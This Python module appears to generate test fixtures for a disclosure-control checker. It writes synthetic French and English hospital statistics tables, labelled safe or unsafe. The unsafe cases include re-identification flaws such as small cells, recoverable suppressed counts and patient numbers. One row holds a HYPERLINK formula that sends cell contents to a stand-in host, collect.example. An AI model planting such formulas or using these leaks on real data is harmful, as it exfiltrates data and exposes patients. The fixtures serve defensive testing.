"""CSV and TSV, first part."""

import math

from tests.airlock.outputs.case import Shelf

from .kit import fr, ipp, np_en, np_fr, p2, part, rows, split, text


def write(shelf: Shelf) -> None:
    _safe(shelf)
    _unsafe(shelf)


def _safe(shelf: Shelf) -> None:
    r = shelf.random("csv_a_safe")
    # 1 stroke units table 1, French, semicolons
    a, b = 1011, 831
    t = [["Caractéristique", f"Thrombolyse (N={fr(a)})", f"Pas de thrombolyse (N={fr(b)})", "p"]]
    for name, pa, pb, _ in [
        ("Femmes", 0.46, 0.49, "0,21"),
        ("Hypertension artérielle", 0.61, 0.66, "0,03"),
        ("Diabète de type 2", 0.19, 0.24, "0,008"),
        ("Fibrillation atriale", 0.22, 0.31, "<0,001"),
        ("Tabagisme actif", 0.24, 0.2, "0,04"),
        ("Occlusion proximale", 0.38, 0.21, "<0,001"),
        ("Rankin 0-2 à 3 mois", 0.58, 0.47, "<0,001"),
        ("Décès à 3 mois", 0.11, 0.17, "0,002"),
        ("Transformation hémorragique symptomatique", 0.048, 0.027, "0,02"),
    ]:
        x, y = part(r, a, pa), part(r, b, pb)
        t.append([name, np_fr(x, a), np_fr(y, b), p2(x, a, y, b).replace(".", ",")])
    t += [
        ["Âge, médiane [Q1-Q3]", "71 [60-80]", "74 [62-83]", "0,001"],
        ["NIHSS à l'entrée, médiane [Q1-Q3]", "8 [5-15]", "4 [2-9]", "<0,001"],
        ["Délai début-aiguille (min), médiane [Q1-Q3]", "148 [112-196]", "—", ""],
    ]
    rows(
        shelf.safe(
            "csv/tab1_avc_thrombolyse.csv",
            "small medians (NIHSS 4 [2-9]), p-values, Rankin 0-2",
            "Caractéristiques des patients selon la thrombolyse, effectifs et pourcentages, tests du chi2 et de Wilcoxon. Plus petit effectif : 22.",
            "1 842 patients hospitalisés pour AVC ischémique, 2019-2023",
        ),
        t,
        ";",
    )
    # 2 OMOP concept usage with ten-digit concept ids beginning with 80
    t = [["concept_id", "vocabulary_id", "concept_code", "concept_name", "n_patients", "n_records"]]
    for code, name in [
        ("718-7", "Hemoglobin [Mass/volume] in Blood"),
        ("2160-0", "Creatinine [Mass/volume] in Serum or Plasma"),
        ("2823-3", "Potassium [Moles/volume] in Serum or Plasma"),
        ("1988-5", "C reactive protein [Mass/volume]"),
        ("6690-2", "Leukocytes [#/volume] in Blood"),
        ("777-3", "Platelets [#/volume] in Blood"),
        ("1742-6", "ALT [Enzymatic activity/volume]"),
        ("4548-4", "Hemoglobin A1c/Hemoglobin.total in Blood"),
        ("3016-3", "Thyrotropin [Units/volume]"),
        ("2276-4", "Ferritin [Mass/volume]"),
        ("10839-9", "Troponin I.cardiac"),
        ("33762-6", "NT-proBNP"),
    ]:
        n = r.randint(900, 42000)
        t.append(
            [
                8000000000 + r.randint(10_000_000, 99_999_999),
                "LOINC-local",
                code,
                name,
                n,
                int(n * r.uniform(1.8, 7.5)),
            ]
        )
    rows(
        shelf.safe(
            "csv/lab_concepts_usage.csv",
            "ten-digit numbers beginning with 80, in a concept_id column",
            "Use of local laboratory concepts in the OMOP mapping: number of patients and records for each concept.",
            "all patients with at least one laboratory result in 2022",
        ),
        t,
    )
    # 3 performance by fold
    t = [["fold", "epoch", "auroc", "auprc", "brier", "n_train", "n_valid"]]
    for k in range(1, 6):
        for e in (3, 6, 9):
            t.append(
                [
                    k,
                    e,
                    f"{r.uniform(0.78, 0.84):.4f}",
                    f"{r.uniform(0.31, 0.4):.4f}",
                    f"{r.uniform(0.08, 0.1):.4f}",
                    6648,
                    1662,
                ]
            )
    rows(
        shelf.safe(
            "csv/cv_sepsis_metrics.csv",
            "fold and epoch numbers 1-9 that are not persons",
            "Cross-validation metrics of the sepsis early-warning model, five folds of equal size.",
            "8,310 ICU stays 2016-2022",
        ),
        t,
    )
    # 4 management: monthly activity of an emergency department
    t = [
        [
            "mois",
            "passages",
            "dont_hospitalises",
            "dont_retour_domicile",
            "duree_mediane_min",
            "taux_hospitalisation_pct",
            "rang_regional",
        ]
    ]
    for m in range(1, 13):
        n = r.randint(4100, 5600)
        h = part(r, n, 0.23)
        t.append([f"2023-{m:02d}", n, h, n - h, r.randint(205, 290), fr(100 * h / n, 1), r.randint(2, 7)])
    rows(
        shelf.safe(
            "csv/urgences_activite_2023.csv",
            "ranks 2-7, year-months",
            "Activité mensuelle des urgences adultes (passages, hospitalisations, durée médiane), pour la commission médicale.",
            "environ 57 000 passages aux urgences adultes en 2023",
        ),
        t,
        ";",
    )
    # 5 cox results
    t = [["term", "estimate", "std.error", "statistic", "p.value", "conf.low", "conf.high"]]
    for name, hr in [
        ("age_10y", 1.42),
        ("menopause", 0.86),
        ("stageII", 1.61),
        ("stageIII", 2.94),
        ("ER_positive", 0.58),
        ("HER2_positive", 0.91),
        ("grade3", 1.73),
        ("bmi_ge30", 1.08),
        ("chemo_neoadj", 1.12),
    ]:
        se = r.uniform(0.05, 0.14)
        z = math.log(hr) / se
        t.append(
            [
                name,
                hr,
                f"{se:.4f}",
                f"{z:.3f}",
                f"{math.erfc(abs(z) / 2**0.5):.5f}",
                f"{hr * 2.718 ** (-1.96 * se):.3f}",
                f"{hr * 2.718 ** (1.96 * se):.3f}",
            ]
        )
    rows(
        shelf.safe(
            "csv/broom_cox_breast.csv",
            "estimates between 1 and 9, grade3",
            "broom::tidy of the Cox model for overall survival (hazard ratios with 95% CI), 611 deaths.",
            "3,204 women operated on for breast cancer, 2010-2020",
        ),
        t,
    )
    # 6 suppressed well: two categories suppressed, total rounded to tens
    tot = 2380
    c = split(r, 2380, [9, 6, 4, 3, 2, 1.4])
    t = [["Groupe homogène", "Séjours (arrondis à la dizaine)", "DMS (jours)"]]
    for g, n in zip(["08C24", "08C47", "08C48", "08M04", "08C59", "08C13"], c, strict=True):
        t.append([g, max(20, round(n, -1)), fr(r.uniform(2, 9), 1)])
    t += [
        ["08C22", "< 20", ""],
        ["08C61", "< 20", ""],
        ["08C34", "< 20", ""],
        ["Ensemble du service", f"environ {fr(round(tot, -2))}", fr(5.2, 1)],
    ]
    rows(
        shelf.safe(
            "csv/ghm_orthopedie_arrondis.csv",
            "suppressed cells, but three of them and a total rounded to hundreds",
            "Séjours d'orthopédie par GHM, effectifs arrondis à la dizaine, total arrondi à la centaine et groupes de moins de 20 masqués.",
            "environ 2 400 séjours de chirurgie orthopédique en 2022",
        ),
        t,
        ";",
        "utf-8-sig",
    )
    # 7 TSV of vaccination coverage by age class
    t = [["age_class", "residents", "vaccinated", "coverage_pct", "ci95"]]
    for k, n in [("65-69", 812), ("70-74", 940), ("75-79", 887), ("80-84", 655), ("85 and over", 514)]:
        v = part(r, n, r.uniform(0.5, 0.7))
        p = 100 * v / n
        t.append([k, n, v, f"{p:.1f}", f"{p - 3.2:.1f} to {p + 3.2:.1f}"])
    rows(
        shelf.safe(
            "csv/influenza_coverage.tsv",
            "oldest class is open (85 and over)",
            "Influenza vaccine coverage by age class, season 2022-2023, with 95% confidence intervals.",
            "3,808 outpatients aged 65 and over",
        ),
        t,
        "\t",
    )
    # 8 gene-level results
    t = [["gene", "chr", "log2FC", "lfcSE", "pvalue", "padj"]]
    for g in [
        "IL6",
        "CXCL8",
        "STAT1",
        "IFI44L",
        "GBP5",
        "MX1",
        "ISG15",
        "OAS1",
        "CCL2",
        "TNFAIP3",
        "SOCS3",
        "S100A8",
        "S100A9",
        "LCN2",
        "CD177",
        "ARG1",
        "HLA-DRA",
        "CD74",
    ]:
        t.append(
            [
                g,
                r.randint(1, 22),
                f"{r.uniform(-4, 6):.3f}",
                f"{r.uniform(0.1, 0.6):.3f}",
                f"{10 ** -r.uniform(3, 12):.2e}",
                f"{10 ** -r.uniform(2, 9):.2e}",
            ]
        )
    rows(
        shelf.safe(
            "csv/deseq2_septic_vs_control.csv",
            "chromosome numbers 1-9",
            "DESeq2 contrast, septic shock against controls, top genes. Group level only.",
            "120 septic shock patients and 95 controls",
        ),
        t,
    )


def _unsafe(shelf: Shelf) -> None:
    r = shelf.random("csv_a_unsafe")
    # 1 small cell among a full table
    a, b = 402, 388
    t = [["variable", f"Arm A (n={a})", f"Arm B (n={b})", "p"]]
    for name, s in [
        ("Female sex", 0.51),
        ("Current smoker", 0.22),
        ("Asthma", 0.12),
        ("Previous biologic", 0.31),
        ("Perianal disease", 0.18),
        ("Ileal location", 0.37),
        ("Colonic location", 0.29),
        ("Remission week 26", 0.44),
        ("Serious infection", 0.07),
    ]:
        x, y = part(r, a, s), part(r, b, s)
        t.append([name, np_en(x, a), np_en(y, b), p2(x, a, y, b)])
    t.append(["Opportunistic infection", np_en(16, a), np_en(6, b), "0.04"])
    rows(
        shelf.unsafe(
            "csv/crohn_arms_baseline.csv",
            "a count of 6 persons",
            "last row, arm B",
            "Baseline and outcomes of two treatment strategies in Crohn's disease.",
            "790 adults with Crohn's disease, 2015-2022",
        ),
        t,
    )
    # 2 percentage alone that gives the count
    t = [["service", "n_sejours", "pct_readmission_30j", "pct_deces", "dms_mediane"]]
    for s, n, p, d in [
        ("Cardiologie", 1210, 11.2, 3.1),
        ("Pneumologie", 905, 14.4, 6.2),
        ("Gériatrie aiguë", 640, 17.8, 12.3),
        ("Néphrologie", 415, 13.0, 4.6),
        ("Hépatologie", 130, 20.0, 3.1),
        ("Rhumatologie", 520, 6.2, 2.9),
    ]:
        t.append([s, n, fr(p, 1), fr(d, 1), r.randint(4, 9)])
    rows(
        shelf.unsafe(
            "csv/indicateurs_services.csv",
            "3.1 % of 130 is 4 deaths",
            "Hépatologie, pct_deces",
            "Indicateurs de qualité par service : réadmission à 30 jours et mortalité, en pourcentage des séjours.",
            "3 820 séjours de médecine, 2023",
        ),
        t,
        ";",
    )
    # 3 one suppressed cell and the total
    t = [
        ["Organism", "Isolates from distinct patients", "Resistant to 3GC (%)"],
        ["Escherichia coli", 912, 9.1],
        ["Klebsiella pneumoniae", 304, 24.0],
        ["Enterobacter cloacae", 118, 38.1],
        ["Pseudomonas aeruginosa", 206, 17.0],
        ["Proteus mirabilis", 87, 14.9],
        ["Serratia marcescens", 52, 28.8],
        ["Morganella morganii", 41, 31.7],
        ["Hafnia alvei", "<10", "n.d."],
        ["Total", 1727, 16.6],
    ]
    rows(
        shelf.unsafe(
            "csv/bacteraemia_organisms.csv",
            "a suppressed cell is given back by the total (7)",
            "Hafnia alvei and Total",
            "Organisms of Gram-negative bacteraemia, one isolate for each patient. Counts under ten are hidden.",
            "1,727 patients with Gram-negative bacteraemia, 2018-2022",
        ),
        t,
    )
    # 4 complement
    t = [
        ["Indicateur", "Numérateur", "Dénominateur"],
        ["Consentement tracé", 1196, 1210],
        ["Check-list HAS complète", 1155, 1210],
        ["Antibioprophylaxie conforme", 1088, 1210],
        ["Sortie vivant à J30", 1206, 1210],
        ["Douleur évaluée en SSPI", 1141, 1210],
        ["Lettre de liaison à J0", 902, 1210],
    ]
    rows(
        shelf.unsafe(
            "csv/iqss_chirurgie.csv",
            "1210 - 1206 alive gives 4 deaths",
            "row Sortie vivant à J30",
            "Indicateurs qualité de la chirurgie programmée : numérateurs et dénominateurs.",
            "1 210 interventions programmées, 2023",
        ),
        t,
        ";",
    )
    # 5 cumulated series with a step of 3
    t = [["day", "cum_deaths", "cum_incidence"]]
    c = 0
    for d, k in zip((1, 3, 7, 14, 21, 28, 45, 60, 90), (21, 18, 27, 31, 22, 16, 14, 3, 19), strict=True):
        c += k
        t.append([d, c, f"{c / 1460:.4f}"])
    rows(
        shelf.unsafe(
            "csv/cumulative_mortality.tsv",
            "a step of 3 in a cumulated series",
            "from day 45 to day 60",
            "Cumulative mortality after admission to intensive care for ARDS.",
            "1,460 patients with ARDS, 2014-2021",
        ),
        t,
        "\t",
    )
    # 6 zero of a real group
    t = [
        ["Classe d'âge", "Patientes", "Césarienne", "Hémorragie du post-partum", "Prééclampsie"],
        ["18-24 ans", 412, 71, 38, 12],
        ["25-29 ans", 1034, 201, 96, 27],
        ["30-34 ans", 1377, 310, 131, 44],
        ["35-39 ans", 802, 232, 90, 36],
        ["40 ans et plus", 214, 81, 29, 0],
    ]
    rows(
        shelf.unsafe(
            "csv/maternite_issues_age.csv",
            "a zero of a real group",
            "40 ans et plus, Prééclampsie",
            "Issues maternelles par classe d'âge à la maternité.",
            "3 839 accouchements, 2021-2022",
        ),
        t,
        ";",
    )
    # 7 row-level data as an aggregate
    t = [["age", "sex", "dept", "icd10", "n", "mean_los", "mean_cost_eur"]]
    for _ in range(64):
        t.append(
            [
                r.randint(31, 88),
                r.choice("MF"),
                r.choice(["59", "62", "80", "02"]),
                r.choice(["C34.1", "C34.3", "C78.0", "J90", "C34.9"]),
                1,
                f"{r.randint(2, 31):.1f}",
                f"{r.uniform(2100, 19000):.2f}",
            ]
        )
    rows(
        shelf.unsafe(
            "csv/lung_grouped_costs.csv",
            "row-level data written as groups of one",
            "all rows, n = 1",
            "Mean length of stay and cost grouped by age, sex, département and diagnosis.",
            "64 stays for lung cancer, 2022",
        ),
        t,
    )
    # 8 min / max
    t = [["Paramètre", "N", "Moyenne", "Écart-type", "Min", "Q1", "Médiane", "Q3", "Max"]]
    for p, m, s, lo, hi, d in [
        ("Créatinine (µmol/L)", 94, 31, 38, 611, 0),
        ("Hémoglobine (g/dL)", 12.4, 1.9, 5.3, 18.1, 1),
        ("CRP (mg/L)", 41, 52, 0.4, 388, 1),
        ("Albumine (g/L)", 36, 6, 14, 51, 0),
        ("Natrémie (mmol/L)", 138, 4, 111, 158, 0),
    ]:
        t.append(
            [
                p,
                2214,
                fr(m, d),
                fr(s, d),
                fr(lo, d),
                fr(max(m - 0.7 * s, lo), d),
                fr(m * 0.98, d),
                fr(m + 0.6 * s, d),
                fr(hi, d),
            ]
        )
    rows(
        shelf.unsafe(
            "csv/biologie_entree_descriptif.csv",
            "minimum and maximum",
            "columns Min and Max",
            "Statistiques descriptives de la biologie d'entrée.",
            "2 214 patients de médecine interne, 2020-2022",
        ),
        t,
        ";",
    )
    # 9 IPP under an innocent name
    t = [["ref", "cluster", "silhouette"]] + [
        [ipp(r), r.randint(0, 3), f"{r.uniform(0.1, 0.7):.3f}"] for _ in range(60)
    ]
    rows(
        shelf.unsafe(
            "csv/kmeans_assignments.csv",
            "hospital numbers (IPP) in a column named ref",
            "column ref",
            "Cluster assignments of the k-means phenotyping.",
            "60 patients with HFpEF",
        ),
        t,
    )
    # 10 rate per thousand
    t = [
        ["unit", "patient_days", "admissions", "central_line_infections_per_1000_admissions"],
        ["Medical ICU", 9120, 1488, 12.8],
        ["Surgical ICU", 7544, 1702, 10.6],
        ["Neuro ICU", 5210, 811, 18.5],
        ["Cardiac ICU", 6032, 1950, 2.6],
        ["Paediatric ICU", 4870, 980, 14.3],
    ]
    rows(
        shelf.unsafe(
            "csv/clabsi_rates.csv",
            "2.6 per 1000 of 1950 admissions is 5",
            "Cardiac ICU",
            "Central line infection rates in the five ICUs (one infection at most for each admission).",
            "6,931 admissions, 2022",
        ),
        t,
    )
    # 11 formula injection
    t = [
        ["Libellé", "Séjours", "Valorisation moyenne (€)"],
        ["Chimiothérapie", 4120, 412],
        ["Dialyse", 9034, 338],
        ["Radiothérapie", 6610, 254],
        ['=HYPERLINK("http://collect.example/?d="&B2&B3,"Transfusion")', 811, 702],
        ["Endoscopie", 2950, 611],
    ]
    rows(
        shelf.unsafe(
            "csv/valorisation_ambulatoire.csv",
            "a formula that sends cells to a site",
            "row Transfusion",
            "Valorisation moyenne des séances et séjours ambulatoires.",
            "23 525 séances et séjours, 2023",
        ),
        t,
        ";",
    )
    # 12 transposed persons
    t = [["variable"] + [f"S{k:02d}" for k in range(1, 41)]]
    for v, lo, hi in [
        ("age", 22, 79),
        ("weight_kg", 48, 118),
        ("eGFR", 14, 88),
        ("tacrolimus_C0", 3, 14),
        ("dose_mg", 1, 12),
    ]:
        t.append([v] + [r.randint(lo, hi) for _ in range(40)])
    t.append(["CYP3A5"] + [r.choice(["*3/*3", "*1/*3", "*1/*1"]) for _ in range(40)])
    rows(
        shelf.unsafe(
            "csv/tacrolimus_matrix.csv",
            "persons as columns",
            "columns S01 to S40",
            "Matrix of pharmacokinetic covariates of the tacrolimus study.",
            "40 kidney transplant recipients",
        ),
        t,
    )
    text(
        shelf.unsafe(
            "csv/ages_pyramide.csv",
            "single ages from 90 (each with 12 persons or more)",
            "rows 90 to 96",
            "Pyramide des âges des patients de gériatrie.",
            "1 490 patients de gériatrie, 2022",
        ),
        "age;effectif\n"
        + "".join(
            f"{a};{n}\n"
            for a, n in zip(
                range(75, 97),
                [48, 55, 61, 70, 82, 88, 95, 101, 112, 109, 118, 104, 99, 90, 81, 52, 37, 28, 21, 14, 13, 12],
                strict=True,
            )
        ),
    )
